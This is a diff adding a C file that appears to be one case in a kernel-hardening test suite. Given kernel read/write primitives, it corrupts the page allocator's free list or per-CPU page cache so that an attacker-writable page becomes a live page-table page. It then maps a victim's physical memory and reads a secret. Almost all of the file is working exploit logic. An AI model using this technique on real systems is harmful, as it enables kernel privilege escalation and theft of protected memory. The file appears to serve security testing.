@@ -1,0 +1,175 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * The allocator of page-table pages is made to hand out a page the attacker
+ * can still write: whatever he puts there becomes a live page-table entry.
+ */
+#include <errno.h>
+#include <sched.h>
+#include <stddef.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/mman.h>
+
+#include "attack.h"
+#include "list.h"
+
+/* struct page: flags, lru.next, lru.prev, ..., _refcount */
+#define PAGE_LRU	8
+#define PAGE_REFCOUNT	52
+#define WORDS		(PAGE_SIZE / sizeof(uint64_t))
+#define TRIES		16
+#define POOL_BASE	0x520000000000UL
+
+struct page {
+	uint64_t addr;		/* direct map */
+	uint64_t page;		/* struct page */
+};
+
+static bool page_alloc(struct page *page)
+{
+	if (corrupt_command("alloc order=0"))
+		return false;
+	page->addr = corrupt_answer("address");
+	page->page = corrupt_answer("page");
+	return true;
+}
+
+/*
+ * Free a page, so that it heads this CPU's list of free pages, and put ours
+ * in its place.
+ */
+static int forge_buddy_list(const struct page *ours)
+{
+	uint64_t lru = ours->page + PAGE_LRU;
+	uint64_t next, prev;
+	struct page freed;
+	int err;
+
+	if (!page_alloc(&freed) || corrupt_command("free count=1"))
+		return -ENOMEM;
+	next = kread64(freed.page + PAGE_LRU);
+	prev = kread64(freed.page + PAGE_LRU + 8);
+	err = kwrite64(lru, next);
+	err = err ?: kwrite64(lru + 8, prev);
+	err = err ?: kwrite64(next + 8, lru);
+	return err ?: kwrite64(prev, lru);
+}
+
+/* Words of this CPU's state that are addresses of whole pages: the magazine. */
+static int forge_magazine(uint64_t state, uint64_t ours, uint64_t *words)
+{
+	uint64_t base = kread64(ksymbol("page_offset_base"));
+	int err = -ENOENT;
+	size_t i;
+
+	kread(state, words, PAGE_SIZE);
+	for (i = 0; i < WORDS; i++) {
+		if (words[i] <= base || words[i] - base > 1UL << 44 || words[i] % PAGE_SIZE)
+			continue;
+		err = kwrite64(state + i * sizeof(*words), ours);
+		if (err)
+			break;
+	}
+	return err;
+}
+
+static void restore_magazine(uint64_t state, uint64_t ours, const uint64_t *words)
+{
+	size_t i;
+
+	for (i = 0; i < WORDS; i++)
+		if (words[i] != ours && kread64(state + i * sizeof(*words)) == ours)
+			kwrite64(state + i * sizeof(*words), words[i]);
+}
+
+/* Ready to make page tables of the lowest level, and no others. */
+static volatile char *prepare_region(void)
+{
+	volatile char *base = mmap((void *)POOL_BASE, TRIES * PMD_SIZE, PROT_READ,
+				   MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE |
+				   MAP_FIXED_NOREPLACE, -1, 0);
+
+	madvise((void *)base, TRIES * PMD_SIZE, MADV_NOHUGEPAGE);
+	(void)base[0];
+	return base;
+}
+
+/* Make page tables until one of them is ours. */
+static bool wait_for_page(volatile char *base, const struct page *ours,
+			  struct window *window)
+{
+	struct slot slot;
+	int i;
+
+	for (i = 1; i < TRIES; i++) {
+		(void)base[i * PMD_SIZE];
+		window->page = (char *)base + i * PMD_SIZE + PAGE_SIZE;
+		if (kwalk((uint64_t)window->page, LEVEL_PTE, 0, &slot))
+			return false;
+		if (slot.slot - ours->addr >= PAGE_SIZE)
+			continue;
+		window->slot = slot.slot;
+		window->size = PAGE_SIZE;
+		window->forged = 0;
+		return true;
+	}
+	return false;
+}
+
+/* The page has two owners now: keep its second free from being a real one. */
+static void keep_page(const struct page *ours)
+{
+	unsigned int count = 2;
+
+	kwrite(ours->page + PAGE_REFCOUNT, &count, sizeof(count));
+}
+
+static enum outcome use_page(volatile char *base, const struct page *ours, int forged)
+{
+	struct window window;
+	char text[64];
+	int err;
+
+	if (!wait_for_page(base, ours, &window))
+		return lost("list changed: %s; no page-table page came from it",
+			    forged ? strerror(-forged) : "yes");
+	keep_page(ours);
+	err = window_map(&window, plain_store, NULL, victim_phys());
+	snprintf(text, sizeof(text), "%s", window.page);
+	window_close(&window);
+	return judge_secret(text, err);
+}
+
+static void pin_to_cpu(int cpu)
+{
+	cpu_set_t cpus;
+
+	CPU_ZERO(&cpus);
+	CPU_SET(cpu, &cpus);
+	sched_setaffinity(0, sizeof(cpus), &cpus);
+}
+
+enum outcome pool_free_list(void)
+{
+	static uint64_t words[WORDS];
+	volatile char *base = prepare_region();
+	uint64_t state, on = 0;
+	enum outcome outcome;
+	struct page ours;
+	int err;
+
+	pin_to_cpu(0);
+	state = ksymbol_cpu("kpkeys_cpu", 0);
+	if (state && !corrupt_command("register"))
+		on = corrupt_answer("register");
+	if (!page_alloc(&ours))
+		return broken("no memory");
+	if (on)
+		err = forge_magazine(state, ours.addr, words);
+	else
+		err = forge_buddy_list(&ours);
+	outcome = use_page(base, &ours, err);
+	if (on)
+		restore_magazine(state, ours.addr, words);
+	return outcome;
+}
